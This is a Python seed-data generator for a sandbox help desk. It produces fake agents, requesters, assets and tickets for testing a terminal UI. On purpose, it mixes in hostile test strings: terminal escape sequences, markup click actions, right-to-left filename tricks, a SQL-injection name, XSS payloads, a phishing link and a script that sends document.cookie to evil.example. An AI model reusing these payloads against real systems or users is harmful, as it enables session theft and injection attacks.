"""Deterministic, realistic help-desk data for the sandbox.

Everything comes from ``random.Random(seed)`` and the anchor time, so the same seed and anchor give
the same desk. Tickets are cheap rows; their HTML descriptions and conversation threads are
generated on demand from a per-ticket seed (``describe`` / ``conversations_for``), so 50,000
tickets start in a couple of seconds.

Internal keys start with an underscore and never leave the server.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from . import (
    DEMO_AGENT_EMAIL,
    DEMO_AGENT_PASSWORD,
    READONLY_AGENT_EMAIL,
    READONLY_AGENT_PASSWORD,
    READONLY_API_KEY,
)

DAY = 86400
HISTORY_DAYS = 60

USER_ID_BASE = 1000000000
GROUP_ID_BASE = 1000000800
TICKET_FIELD_ID_BASE = 1000000350
CONVERSATION_ID_BASE = 1000000000  # seeded conversation id = base + ticket_id * 100 + index
CONVERSATIONS_PER_TICKET_SLOT = 100
NEW_ID_BASE = 9000000000  # ids of conversations/attachments created through the API
ATTACHMENT_ID_BASE = 2000000000

SUPPORT_EMAIL = "helpdesk@fstui-sandbox.example"
ATTACHMENT_URL = "https://cdn.fstui-sandbox.example/data/helpdesk/attachments/production/{id}/original/{name}"

# Strings real desks receive and that a terminal UI must show, never interpret.
HOSTILE_SUBJECTS = [
    "[bold red]URGENT[/bold red] printer on fire",
    "Invoice overdue [@click=app.quit]open me[/]",
    "\x1b[2J\x1b[HScreen cleared? \x1b[31mred text\x1b[0m in subject",
    "Attachment invoice_\u202egpj.exe\u202c from vendor",
    "[link=file:///etc/passwd]Click here[/link] to verify your account",
    "Weird chars: \x07bell \x08backspace \x7fdel \u0085nel",
    "Re: Re: [External] <script>alert('x')</script> still broken",
    "Emoji storm 🔥🔥🔥 and wide 漢字テキスト in subject",
]
HOSTILE_NAMES = [
    ("[bold]Eve[/bold]", "Hacker"),
    ("Mallory", "\x1b[31mRed\x1b[0m"),
    ("Zoë", "\u202eresU\u202c"),
    ("[@click=app.quit]Click", "Me"),
    ("Robert');", "DROP TABLE--"),
]
HOSTILE_BODIES = [
    "<p>Please run <code>[@click=app.quit]</code> to fix it, the vendor said.</p>",
    "<p>Log excerpt:</p><pre>\x1b[31mERROR\x1b[0m [bold]disk full[/bold] \x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\</pre>",
    "<p>Filename: report_\u202efdp.exe\u202c</p><img src=x onerror=alert(1)>",
    "<script>document.location='http://evil.example/?c='+document.cookie</script><p>hello</p>",
    "<p><a href=\"javascript:alert(1)\">Reset password</a> and [link=https://phish.example]this[/link]</p>",
]

FIRST_NAMES = [
    "Aisha", "Ben", "Carlos", "Dana", "Elif", "Farid", "Grace", "Hiro", "Ines", "Jonas", "Kavya", "Liam",
    "Maya", "Noah", "Olga", "Priya", "Quinn", "Rosa", "Sam", "Tariq", "Uma", "Victor", "Wen", "Ximena",
    "Yusuf", "Zara", "Anders", "Bea", "Chidi", "Dmitri", "Esme", "Felix", "Gita", "Hugo", "Ingrid", "Jae",
]
LAST_NAMES = [
    "Okafor", "Schmidt", "García", "Nakamura", "Kowalski", "Haddad", "Nguyen", "O'Brien", "Rossi", "Lindqvist",
    "Patel", "Moreau", "Silva", "Fischer", "Yilmaz", "Novak", "Andersen", "Dubois", "Costa", "Ivanova",
    "Tanaka", "Murphy", "Kim", "Ahmed", "Jensen", "Bianchi", "Walsh", "Horvat", "Mendes", "Sato",
]
JOB_TITLES = ["Accountant", "Designer", "Engineer", "Sales Manager", "Recruiter", "Analyst", "Director",
              "Support Specialist", "Lawyer", "Office Manager", "Intern", "Product Manager"]
DEPARTMENTS = ["Finance", "Engineering", "Sales", "Human Resources", "Legal", "Marketing", "Operations", "IT"]
GROUPS = [
    ("Service Desk", "First line: every new ticket lands here"),
    ("Network Team", "Switches, Wi-Fi, VPN and firewalls"),
    ("Hardware Team", "Laptops, desktops, printers and peripherals"),
    ("Identity & Access", "Accounts, passwords, SSO and permissions"),
    ("Database Team", "Databases and reporting"),
    ("Applications", "Business applications and SaaS"),
    ("Major Incident Team", "Outages affecting many users"),
    ("Change Team", "Planned changes and releases"),
]
ROLES = [
    ("Account Admin", "Has complete control over the help desk including access to Account or Billing related "
     "information, and receives Invoices.", {"ticket": "Global Access", "problem": "Global Access",
                                           "change": "Global Access", "release": "Global Access"}),
    ("Admin", "Can configure all features through the Admin tab, but is restricted from viewing Account or "
     "Billing related information.", {"ticket": "Global Access", "problem": "Global Access",
                                      "change": "Global Access", "release": "Global Access"}),
    ("SD Supervisor", "Can perform all agent related activities and access reports, but cannot access or change "
     "configurations in the Admin tab.", {"ticket": "Global Access", "problem": "Global Access"}),
    ("SD Agent", "Can log, view, reply, update and resolve tickets and manage contacts.",
     {"ticket": "Group Access", "problem": "Group Access", "change": "Group Access"}),
    ("Problem Manager", "Can manage problems and link incidents to them.",
     {"ticket": "Global Access", "problem": "Global Access"}),
    ("Read-only Agent", "Can view tickets, assets and contacts but cannot change anything.",
     {"ticket": "Restricted Access"}),
]
READONLY_ROLE_ID = 6

CATEGORIES = {
    "Hardware": ["Laptop", "Desktop", "Printer", "Monitor", "Peripherals"],
    "Software": ["Office Suite", "Email", "ERP", "Browser", "Antivirus"],
    "Network": ["VPN", "Wi-Fi", "LAN", "Firewall"],
    "Access": ["Password reset", "New account", "Permissions", "SSO"],
    "Other": ["General", "Facilities"],
}
SUBJECTS = [
    "VPN drops every {n} minutes", "Laptop won't boot after update", "Password reset for {system}",
    "Cannot print to {printer}", "Outlook keeps asking for my password", "Request: new monitor for desk {n}",
    "{system} is very slow today", "Access to shared drive {drive}", "Wi-Fi on floor {n} is down",
    "New starter {first} {last}: account and laptop", "Phone not syncing email", "License for {app}",
    "Error 0x{hex} when opening {app}", "Screen flickers on docking station", "Teams meeting audio echo",
    "Please install {app} on my machine", "Lost badge, need replacement", "Database report {n} failing",
    "Firewall rule for {system}", "Keyboard missing keys ({first}'s desk)", "SSO login loop on {system}",
    "Disk almost full on {server}", "Backup job failed on {server}", "Projector in room {n} not working",
]
SYSTEMS = ["SAP", "Salesforce", "Jira", "the intranet", "Workday", "NetSuite", "GitLab", "Confluence"]
APPS = ["Adobe Acrobat", "Visual Studio Code", "Zoom", "Slack", "Tableau", "Python 3.12", "AutoCAD"]
PRINTERS = ["PRN-2F-EAST", "PRN-3F-WEST", "the colour printer", "Finance-MFP"]
SERVERS = ["srv-db-01", "srv-app-07", "fs-02", "mail-relay-1"]
TAGS = ["vpn", "hardware", "onboarding", "vip", "outage", "printer", "password", "follow-up", "escalated"]

CI_TYPES = [
    (1, "Laptop", "LAP"), (2, "Desktop", "DSK"), (3, "Monitor", "MON"), (4, "Mobile Phone", "MOB"),
    (5, "Server", "SRV"), (6, "Software", "SW"), (7, "Printer", "PRN"),
]
VENDORS = ["Dell", "Lenovo", "Apple", "HP", "Samsung", "Cisco", "Microsoft", "Brother"]
ASSET_STATES = ["In Use", "In Stock", "In Repair", "Retired", "Missing"]
LOCATIONS = [11, 12, 13, 14]

REPLY_SNIPPETS = [
    "Thanks for reporting this. Could you tell me when it started?",
    "I have reset the configuration, please try again now.",
    "We are working on this issue. Will keep you posted.",
    "Can you provide some screenshots?",
    "This should be fixed now. Please confirm.",
    "I'm escalating this to the second line.",
]
INCOMING_SNIPPETS = [
    "It started this morning after the update.",
    "Still not working, same error as before.",
    "Attached a screenshot.",
    "Works now, thank you!",
    "Any news on this? It is blocking my work.",
]
NOTE_SNIPPETS = [
    "Checked the logs: auth failures from the old token.",
    "Vendor case opened, reference VND-{n}.",
    "Probably related to last night's change.",
    "User is VIP, handle with care.",
]


@dataclass
class SeedData:
    anchor: float
    seed: int
    rest: dict = field(default_factory=dict)  # seed_rest.generate(): filled by the Store on first use
    departments: list[dict] = field(default_factory=list)
    roles: dict[int, dict] = field(default_factory=dict)
    groups: dict[int, dict] = field(default_factory=dict)
    agents: dict[int, dict] = field(default_factory=dict)
    requesters: dict[int, dict] = field(default_factory=dict)
    assets: dict[int, dict] = field(default_factory=dict)
    tickets: dict[int, dict] = field(default_factory=dict)
    ticket_fields: list[dict] = field(default_factory=list)
    requester_fields: list[dict] = field(default_factory=list)
    problems: dict[int, dict] = field(default_factory=dict)
    changes: dict[int, dict] = field(default_factory=dict)
    next_user_id: int = 0
    # The current API beyond the reference (seed_workspaces.py).
    workspaces: dict[int, dict] = field(default_factory=dict)
    locations: dict[int, dict] = field(default_factory=dict)
    asset_types: dict[int, dict] = field(default_factory=dict)
    sla_policies: dict[int, dict] = field(default_factory=dict)
    business_hours: dict[int, dict] = field(default_factory=dict)
    form_fields: list[dict] = field(default_factory=list)


def _phone(rng: random.Random) -> str:
    return f"{rng.randint(200, 999)}{rng.randint(1000, 9999)}"


def generate(seed: int = 1, tickets: int = 2000, anchor: float = 0.0, *, workspaces: bool = True) -> SeedData:
    """The seeded account; ``workspaces=False``: one workspace only (see seed_workspaces)."""
    rng = random.Random(seed)
    anchor = float(int(anchor) // 60 * 60)
    data = SeedData(anchor=anchor, seed=seed)
    t0 = anchor - 400 * DAY  # users and groups exist well before the tickets

    data.departments = [{"id": 1000000200 + i, "name": name} for i, name in enumerate(DEPARTMENTS, 1)]
    dept_ids = [d["id"] for d in data.departments]

    for i, (name, desc, scopes) in enumerate(ROLES, 1):
        data.roles[i] = {
            "id": i, "name": name, "description": desc, "default": i <= 4, "scopes": scopes,
            "created_at": t0, "updated_at": t0,
        }

    next_user = USER_ID_BASE + 1

    # --- agents -------------------------------------------------------------------------
    n_agents = 60
    agents = data.agents
    for i in range(n_agents):
        uid = next_user
        next_user += 1
        if i == 0:
            first, last, email = "Demo", "Agent", DEMO_AGENT_EMAIL
        elif i == 1:
            first, last, email = "Riley", "Readonly", READONLY_AGENT_EMAIL
        else:
            first, last = rng.choice(FIRST_NAMES), rng.choice(LAST_NAMES)
            email = f"{first.lower()}.{last.lower().replace(chr(39), '')}{i}@fstui-sandbox.example"
        occasional = i >= 2 and rng.random() < 0.2
        if i == 0:
            role_ids = [1]
        elif i == 1:
            role_ids = [READONLY_ROLE_ID]
        else:
            role_ids = [rng.choice([2, 3, 4, 4, 4, 5])]
        created = t0 + rng.random() * 30 * DAY
        agents[uid] = {
            "id": uid, "first_name": first, "last_name": last, "occasional": occasional,
            "job_title": "Help desk agent" if i else "Demo agent", "email": email,
            "work_phone_number": _phone(rng), "mobile_phone_number": _phone(rng),
            "reporting_manager_id": None if i < 2 else USER_ID_BASE + 1 + rng.randint(2, 6),
            "time_zone": rng.choice(["Edinburgh", "Eastern Time (US & Canada)", "Berlin", "Chennai", "Tokyo"]),
            "language": "en", "location_id": rng.choice(LOCATIONS),
            "scoreboard_level_id": rng.randint(1, 6), "role_ids": role_ids,
            "signature": f"<div>{first} {last}<br>IT Service Desk</div>",
            "last_login_at": anchor - rng.random() * 5 * DAY if not occasional else anchor - rng.random() * 40 * DAY,
            "created_at": created, "updated_at": created,
            "_password": DEMO_AGENT_PASSWORD if i == 0 else (READONLY_AGENT_PASSWORD if i == 1 else None),
            "_api_key": None if i == 0 else (READONLY_API_KEY if i == 1 else None),
        }
    agent_ids = list(agents)
    fulltime_ids = [a for a in agent_ids if not agents[a]["occasional"] and a != agent_ids[1]]

    # --- groups ---------------------------------------------------------------------------
    for i, (name, desc) in enumerate(GROUPS, 1):
        gid = GROUP_ID_BASE + i
        members = sorted(rng.sample(agent_ids[2:], rng.randint(4, 10)))
        if i in (1, 3):
            members = sorted(set(members) | {agent_ids[0]})
        data.groups[gid] = {
            "id": gid, "name": name, "description": desc, "business_hours_id": None,
            "escalate_to": rng.choice(members), "unassigned_for": rng.choice(["30m", "1h", "2h", "4h", "1d"]),
            "agent_ids": members, "auto_ticket_assign": rng.random() < 0.5,
            "created_at": t0, "updated_at": t0,
        }
    group_ids = list(data.groups)

    # --- requesters -------------------------------------------------------------------------
    n_requesters = max(500, tickets // 25)
    req_ids = []
    for i in range(n_requesters):
        uid = next_user
        next_user += 1
        if i % 97 == 13:
            first, last = HOSTILE_NAMES[(i // 97) % len(HOSTILE_NAMES)]
            email = f"odd.user{i}@customer.example"
        else:
            first, last = rng.choice(FIRST_NAMES), rng.choice(LAST_NAMES)
            email = f"{first.lower()}.{last.lower().replace(chr(39), '')}.{i}@customer.example"
            if i % 50 == 7:
                email = f"{first.lower()}+it{i}@customer.example"
        created = t0 + rng.random() * 300 * DAY
        data.requesters[uid] = {
            "id": uid, "first_name": first, "last_name": last, "job_title": rng.choice(JOB_TITLES),
            "primary_email": email,
            "secondary_emails": [f"{first.lower()}{i}@personal.example"] if rng.random() < 0.1 else [],
            "work_phone_number": _phone(rng), "mobile_phone_number": _phone(rng) if rng.random() < 0.7 else None,
            "department_ids": [rng.choice(dept_ids)],
            "can_see_all_tickets_from_associated_departments": rng.random() < 0.1,
            "reporting_manager_id": None, "address": None,
            "time_zone": rng.choice(["Edinburgh", "Berlin", "Chennai", "Pacific Time (US & Canada)"]),
            "language": rng.choice(["en", "en", "en", "de", "fr", "ja-JP"]),
            "location_id": rng.choice(LOCATIONS), "background_information": "",
            "custom_fields": {"employee_id": f"E{10000 + i}", "vip": rng.random() < 0.05,
                              "cost_center": rng.choice(["CC-100", "CC-200", "CC-300", None])},
            "created_at": created, "updated_at": created,
        }
        req_ids.append(uid)
    data.next_user_id = next_user

    # --- assets ------------------------------------------------------------------------------
    for display_id in range(1, 401):
        ci_type_id, type_name, prefix = CI_TYPES[rng.randrange(len(CI_TYPES))]
        vendor = rng.choice(VENDORS)
        created = anchor - rng.random() * 700 * DAY
        updated = min(anchor, created + rng.random() * 200 * DAY)
        in_use = rng.random() < 0.7
        data.assets[display_id] = {
            "id": display_id, "display_id": display_id,
            "name": f"{vendor} {type_name} {display_id:04d}" if display_id % 83 else HOSTILE_SUBJECTS[0][:30],
            "ci_type_id": ci_type_id, "impact": rng.choice([1, 1, 2, 3]),
            "author_type": rng.choice(["User", "User", "Probe", "Agent"]), "usage_type": rng.choice([1, 1, 1, 2]),
            "asset_tag": f"ASSET-{display_id}", "user_id": rng.choice(req_ids) if in_use else None,
            "department_id": rng.choice(dept_ids) if in_use else None,
            "agent_id": rng.choice(agent_ids) if rng.random() < 0.3 else None,
            "created_at": created, "updated_at": updated,
            "_trashed": rng.random() < 0.05,
            "_location_id": rng.choice(LOCATIONS),
            "_asset_state": "In Use" if in_use else rng.choice(ASSET_STATES[1:]),
            "_type_fields": {
                "product": f"{vendor} {type_name}", "vendor": vendor,
                "serial_number": f"{prefix}{rng.getrandbits(40):010X}",
                "cost": round(rng.uniform(50, 4000), 2),
                "warranty_expiry_date": _date(created + rng.randint(365, 1100) * DAY),
                "asset_state": "In Use" if in_use else "In Stock",
                "location_id": None,
            },
        }
        data.assets[display_id]["_type_fields"]["asset_state"] = data.assets[display_id]["_asset_state"]
        data.assets[display_id]["_type_fields"]["location_id"] = data.assets[display_id]["_location_id"]

    # --- problems & changes (for the include handles) -------------------------------------
    for i in range(1, 21):
        data.problems[i] = {
            "id": i, "subject": f"Recurring {rng.choice(SYSTEMS)} outage", "description": "<div>Root cause under investigation.</div>",
            "status": rng.choice([1, 2, 3]), "priority": rng.randint(1, 4), "impact": rng.randint(1, 3),
            "agent_id": rng.choice(fulltime_ids), "group_id": rng.choice(group_ids),
            "due_by": anchor + rng.randint(1, 20) * DAY, "created_at": anchor - 50 * DAY, "updated_at": anchor - 5 * DAY,
        }
        data.changes[i] = {
            "id": i, "subject": f"Upgrade {rng.choice(SERVERS)}", "description": "<div>Planned maintenance.</div>",
            "status": rng.choice([1, 2, 3, 4, 5]), "priority": rng.randint(1, 4), "impact": rng.randint(1, 3),
            "risk": rng.randint(1, 4), "change_type": rng.randint(1, 4),
            "agent_id": rng.choice(fulltime_ids), "group_id": rng.choice(group_ids),
            "planned_start_date": anchor + rng.randint(-10, 10) * DAY,
            "planned_end_date": anchor + rng.randint(11, 20) * DAY,
            "created_at": anchor - 40 * DAY, "updated_at": anchor - 3 * DAY,
        }

    data.ticket_fields = _ticket_fields(data)
    data.requester_fields = _requester_fields()
    _generate_tickets(data, rng, tickets, req_ids, fulltime_ids, group_ids, dept_ids)
    from .seed_workspaces import extend

    extend(data, workspaces=workspaces)
    return data


def _date(epoch: float) -> str:
    import time

    return time.strftime("%Y-%m-%d", time.gmtime(int(epoch)))


def _generate_tickets(data, rng, n, req_ids, agent_ids, group_ids, dept_ids) -> None:
    anchor = data.anchor
    start = anchor - HISTORY_DAYS * DAY
    span = HISTORY_DAYS * DAY
    demo_id = USER_ID_BASE + 1
    offsets = sorted(rng.random() for _ in range(n))
    rand = rng.random
    randint = rng.randint
    choice = rng.choice
    getrandbits = rng.getrandbits
    cat_names = list(CATEGORIES)
    due_hours = {1: 72, 2: 48, 3: 24, 4: 4}
    tickets = data.tickets
    assets_ids = list(data.assets)
    for idx in range(n):
        tid = idx + 1
        created = float(int(start + offsets[idx] * span))
        age = anchor - created
        r = rand()
        if age > 20 * DAY:
            status = 5 if r < 0.6 else (4 if r < 0.85 else (3 if r < 0.92 else 2))
        elif age > 3 * DAY:
            status = 2 if r < 0.3 else (3 if r < 0.5 else (4 if r < 0.8 else 5))
        else:
            status = 2 if r < 0.7 else (3 if r < 0.85 else 4)
        r = rand()
        priority = 1 if r < 0.35 else (2 if r < 0.75 else (3 if r < 0.93 else 4))
        r = rand()
        source = 1 if r < 0.45 else (2 if r < 0.8 else (3 if r < 0.9 else choice([4, 5, 6, 7, 8, 9, 10])))
        responder = choice(agent_ids) if (status > 2 or rand() < 0.6) else None
        if idx % 11 == 0 and status == 2:
            responder = demo_id if rand() < 0.5 else None
        group = choice(group_ids) if rand() < 0.85 else None
        r = rand()
        nconv = 0
        if r < 0.15:
            nconv = randint(1, 8) if rand() < 0.85 else (randint(9, 30) if rand() < 0.7 else randint(31, 40))
        updated = created + rand() * min(age, 6 * DAY)
        cat = choice(cat_names)
        due = created + due_hours[priority] * 3600
        fr_due = created + due_hours[priority] * 900
        first_response = created + rand() * 4 * 3600 if (nconv or status > 2) else None
        if first_response is not None:  # never after the anchor ("now" at start): no future timestamps
            first_response = min(first_response, anchor)
        if first_response is not None and first_response > updated:
            updated = first_response
        resolved = updated if status in (4, 5) else None
        closed = updated if status == 5 else None
        escalated = status in (2, 3) and due < anchor
        special = getrandbits(12)
        if idx % 131 == 5:
            subject = HOSTILE_SUBJECTS[(idx // 131) % len(HOSTILE_SUBJECTS)]
        else:
            subject = choice(SUBJECTS).format(
                n=randint(2, 40), system=choice(SYSTEMS), printer=choice(PRINTERS), drive=choice("FGHKPS"),
                first=choice(FIRST_NAMES), last=choice(LAST_NAMES), app=choice(APPS), hex=f"{getrandbits(16):04X}",
                server=choice(SERVERS),
            )
        tags = [choice(TAGS)] if special & 7 == 0 else []
        tickets[tid] = {
            "id": tid, "subject": subject, "requester_id": choice(req_ids), "responder_id": responder,
            "group_id": group, "department_id": choice(dept_ids) if rand() < 0.6 else None,
            "status": status, "priority": priority, "source": source,
            "type": "Incident" if rand() < 0.8 else "Service Request",
            "urgency": randint(1, 3), "impact": randint(1, 3),
            "category": cat, "sub_category": choice(CATEGORIES[cat]) if rand() < 0.6 else None, "item_category": None,
            "cc_emails": [f"manager{special % 7}@customer.example"] if special & 15 == 1 else [],
            "fwd_emails": [], "reply_cc_emails": [], "to_emails": None,
            "email_config_id": None, "sla_policy_id": 1000000029,
            "fr_escalated": first_response is None and fr_due < anchor and status == 2,
            "is_escalated": escalated, "spam": special % 53 == 7, "deleted": special % 47 == 3,
            "due_by": due, "fr_due_by": fr_due, "created_at": created, "updated_at": updated,
            "custom_fields": {
                "custom_text": None if special & 3 else f"REF-{tid:05d}",
                "auto_checkbox": bool(special & 32),
                "business_impact": None if special & 64 else choice(["Low", "Medium", "High", "Critical"]),
                "affected_users": randint(1, 500) if special & 128 else None,
                "expected_resolution": None,
            },
            "tags": tags,
            "attachments": None,  # None: generated on demand with the description
            "description": None,  # None: generated on demand from _seed
            "_seed": getrandbits(32),
            "_nconv": nconv,
            "_stats": {"first_responded_at": first_response, "resolved_at": resolved, "closed_at": closed},
            "_watchers": {demo_id} if special % 29 == 0 else set(),
            "_problem_id": (special % 20) + 1 if special % 37 == 0 else None,
            "_change_id": (special % 20) + 1 if special % 41 == 0 else None,
            "_asset_ids": [choice(assets_ids)] if special % 13 == 0 and assets_ids else [],
            "_parent_id": None,
            "_child_ids": [],
        }
    # A few parent/child pairs for related_tickets.
    ids = [t for t in tickets if t > 1]
    for child in ids[::211][:20]:
        parent = child - 1
        tickets[child]["_parent_id"] = parent
        tickets[parent]["_child_ids"] = tickets[parent]["_child_ids"] + [child]


def describe(ticket: dict) -> tuple[str, list[dict]]:
    """The HTML description and attachments of a seeded ticket (deterministic from its seed)."""
    rng = random.Random(ticket["_seed"])
    tid = ticket["id"]
    parts = [f"<div>Hi team,</div><div>{_escape(ticket['subject'])}</div>"]
    r = rng.random()
    if r < 0.3:
        parts.append("<p>Steps I tried:</p><ul>" + "".join(
            f"<li>{rng.choice(['Restarted the laptop', 'Logged out and in again', 'Cleared the browser cache', 'Switched to the guest network', 'Asked a colleague'])}</li>"
            for _ in range(rng.randint(2, 4))) + "</ul>")
    elif r < 0.5:
        parts.append('<p>See <a href="https://status.example.com/incidents/%d">the status page</a> and '
                     '<a href="mailto:it@customer.example">it@customer.example</a>.</p>' % rng.randint(100, 999))
    elif r < 0.65:
        parts.append("<blockquote><div>On Monday, IT wrote:</div><div>&gt; Please try restarting first.</div>"
                     "<blockquote><div>&gt;&gt; Original message: it was fine last week.</div></blockquote></blockquote>")
    elif r < 0.72:
        parts.append("<table><tr><th>Host</th><th>Error</th></tr><tr><td>srv-app-07</td><td>timeout</td></tr></table>")
    if tid % 37 == 11:
        parts.append(HOSTILE_BODIES[(tid // 37) % len(HOSTILE_BODIES)])
    parts.append("<div><br></div><div>Thanks,<br>Sent from my phone</div>")
    attachments = []
    if rng.random() < 0.06:
        attachments.append(_attachment(ATTACHMENT_ID_BASE + tid * 10, rng, ticket["created_at"]))
    return "".join(parts), attachments


def _attachment(att_id: int, rng: random.Random, when: float) -> dict:
    name, ctype = rng.choice([("screenshot.png", "image/png"), ("error.log", "text/plain"),
                              ("invoice.pdf", "application/pdf"), ("config.txt", "text/plain")])
    return {"id": att_id, "content_type": ctype, "size": rng.randint(200, 400_000), "name": name,
            "attachment_url": ATTACHMENT_URL.format(id=att_id, name=name), "created_at": when, "updated_at": when}


def conversations_for(ticket: dict, agent_ids: list[int]) -> list[dict]:
    """The seeded thread of a ticket, ascending by created_at."""
    n = ticket["_nconv"]
    if not n:
        return []
    rng = random.Random(ticket["_seed"] ^ 0x5EED)
    tid = ticket["id"]
    start = ticket["created_at"]
    end = max(ticket["updated_at"], start + 60)
    times = sorted(start + 30 + rng.random() * (end - start - 30) for _ in range(n))
    out = []
    for k, when in enumerate(times):
        cid = CONVERSATION_ID_BASE + tid * CONVERSATIONS_PER_TICKET_SLOT + k
        r = rng.random()
        agent = rng.choice(agent_ids)
        attachments = []
        if rng.random() < 0.05:
            attachments.append(_attachment(ATTACHMENT_ID_BASE + tid * 10 + 1 + (k % 9), rng, when))
        if r < 0.4:  # agent reply
            text = rng.choice(REPLY_SNIPPETS)
            conv = dict(incoming=False, private=False, user_id=agent, source=0, support_email=SUPPORT_EMAIL,
                        from_email=SUPPORT_EMAIL, to_emails=None, cc_emails=[], bcc_emails=[])
        elif r < 0.7:  # requester wrote back
            text = rng.choice(INCOMING_SNIPPETS)
            conv = dict(incoming=True, private=False, user_id=ticket["requester_id"], source=0, support_email=None,
                        from_email=None, to_emails=[SUPPORT_EMAIL], cc_emails=[], bcc_emails=None)
        else:  # note
            text = rng.choice(NOTE_SNIPPETS).format(n=rng.randint(1000, 9999))
            conv = dict(incoming=False, private=rng.random() < 0.7, user_id=agent, source=2, support_email=None,
                        from_email=None, to_emails=[], cc_emails=[], bcc_emails=None)
        body = f"<div>{_escape(text)}</div>"
        if (tid + k) % 53 == 0:
            body += HOSTILE_BODIES[(tid + k) % len(HOSTILE_BODIES)]
        if conv["incoming"] and rng.random() < 0.4:
            body += "<blockquote><div>On Tue, IT Service Desk wrote:</div><div>&gt; " + rng.choice(REPLY_SNIPPETS) + "</div></blockquote>"
        conv.update(id=cid, ticket_id=tid, body=body, attachments=attachments, created_at=when, updated_at=when)
        out.append(conv)
    return out


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _ticket_fields(data: SeedData) -> list[dict]:
    made = data.anchor - 300 * DAY
    fields_spec = [
        ("custom_text", "Reference", "", "custom_text", False, None),
        ("auto_checkbox", "Auto-created", "", "custom_checkbox", False, None),
        ("business_impact", "Business impact", "How badly work is affected", "custom_dropdown", False,
         ["Low", "Medium", "High", "Critical"]),
        ("affected_users", "Affected users", "Number of users affected", "custom_number", False, None),
        ("expected_resolution", "Expected resolution", "", "custom_date", False, None),
        ("requester", "Search a requester", "Ticket requester", "default_requester", True, None),
        ("subject", "Subject", "Ticket subject", "default_subject", True, None),
        ("ticket_type", "Type", "Ticket type", "default_ticket_type", True, ["Incident", "Service Request"]),
        ("source", "Source", "Ticket source", "default_source", True,
         {"Email": 1, "Portal": 2, "Phone": 3, "Chat": 4, "Feedback Widget": 5, "Yammer": 6,
          "AWS CloudWatch": 7, "Pagerduty": 8, "Walk-up": 9, "Slack": 10}),
        ("status", "Status", "Ticket status", "default_status", True,
         {"2": ["Open", "Being Processed"], "3": ["Pending", "Awaiting your Reply"],
          "4": ["Resolved", "This ticket has been Resolved"], "5": ["Closed", "This ticket has been Closed"]}),
        ("urgency", "Urgency", "Ticket urgency", "default_urgency", True, {"Low": 1, "Medium": 2, "High": 3}),
        ("impact", "Impact", "Ticket impact", "default_impact", True, {"Low": 1, "Medium": 2, "High": 3}),
        ("priority", "Priority", "Ticket priority", "default_priority", True,
         {"Low": 1, "Medium": 2, "High": 3, "Urgent": 4}),
        ("group", "Group", "Ticket group", "default_group", True,
         {g["name"]: gid for gid, g in data.groups.items()}),
        ("agent", "Agent", "Agent", "default_agent", True,
         {f"{a['first_name']} {a['last_name']}": aid for aid, a in data.agents.items()}),
        ("department", "Department", "Select the department, the ticket belongs to.", "default_department", True,
         {d["name"]: d["id"] for d in data.departments}),
        ("description", "Description", "Ticket description", "default_description", True, None),
        ("category", "Category", "Ticket category", "default_category", True, list(CATEGORIES)),
    ]
    out = []
    for pos, (name, label, desc, ftype, default, choices) in enumerate(fields_spec, 1):
        required = name in ("requester", "subject", "status", "priority", "description")
        entry = {
            "id": TICKET_FIELD_ID_BASE + pos, "name": name, "label": label, "description": desc, "position": pos,
            "required_for_closure": name in ("subject", "status", "priority", "description"),
            "required_for_agents": required, "type": ftype, "default": default,
            "customers_can_edit": name not in ("ticket_type", "source", "category"),
            "label_for_customers": label, "required_for_customers": required and name != "priority",
            "displayed_to_customers": name not in ("ticket_type", "source", "category"),
            "created_at": made, "updated_at": made,
        }
        if name == "requester":
            entry["portal_cc"] = True
            entry["portal_cc_to"] = "company"
        if choices is not None:
            entry["choices"] = choices
        out.append(entry)
    return out


CUSTOM_TICKET_FIELD_TYPES = {
    "custom_text": "custom_text", "auto_checkbox": "custom_checkbox", "business_impact": "custom_dropdown",
    "affected_users": "custom_number", "expected_resolution": "custom_date",
}
CUSTOM_REQUESTER_FIELD_TYPES = {"employee_id": "custom_text", "vip": "custom_checkbox", "cost_center": "custom_dropdown"}


def _requester_fields() -> list[dict]:
    made = 1539754774.0  # 2018-10-17T05:39:34Z, as in the reference
    spec = [
        ("first_name", "First Name", "default_first_name", True, True, None),
        ("last_name", "Last Name", "default_last_name", True, False, None),
        ("job_title", "Title", "default_job_title", True, False, None),
        ("email", "Email", "default_email", True, True, None),
        ("phone", "Work Phone", "default_phone", True, False, None),
        ("mobile", "Mobile Phone", "default_mobile", True, False, None),
        ("department", "Department", "default_department", True, False, None),
        ("reporting_manager", "Reporting Manager", "default_reporting_manager", True, False, None),
        ("address", "Address", "default_address", True, False, None),
        ("time_zone", "Time Zone", "default_time_zone", True, False, None),
        ("language", "Language", "default_language", True, False,
         {"de": "German", "en": "English", "fr": "French", "ja-JP": "Japanese", "es": "Spanish"}),
        ("location_id", "Location", "default_location_id", True, False, None),
        ("description", "Background information", "default_description", True, False, None),
        ("employee_id", "Employee ID", "custom_text", False, False, None),
        ("vip", "VIP", "custom_checkbox", False, False, None),
        ("cost_center", "Cost center", "custom_dropdown", False, False, ["CC-100", "CC-200", "CC-300"]),
    ]
    out = []
    for pos, (name, label, ftype, default, required, choices) in enumerate(spec, 1):
        entry = {
            "editable_in_signup": name in ("first_name", "last_name", "email"), "id": pos, "name": name,
            "label": label, "position": pos, "required_for_agents": required, "type": ftype, "default": default,
        }
        if default:
            entry.update(customers_can_edit=name != "email", label_for_customers=label,
                         required_for_customers=required, displayed_for_customers=name != "description")
        else:
            entry.update(requesters_can_edit=True, label_for_requesters=label, required_for_requesters=False,
                         displayed_for_requesters=True)
        entry.update(created_at=made, updated_at=made)
        if choices is not None:
            entry["choices"] = choices
        out.append(entry)
    return out
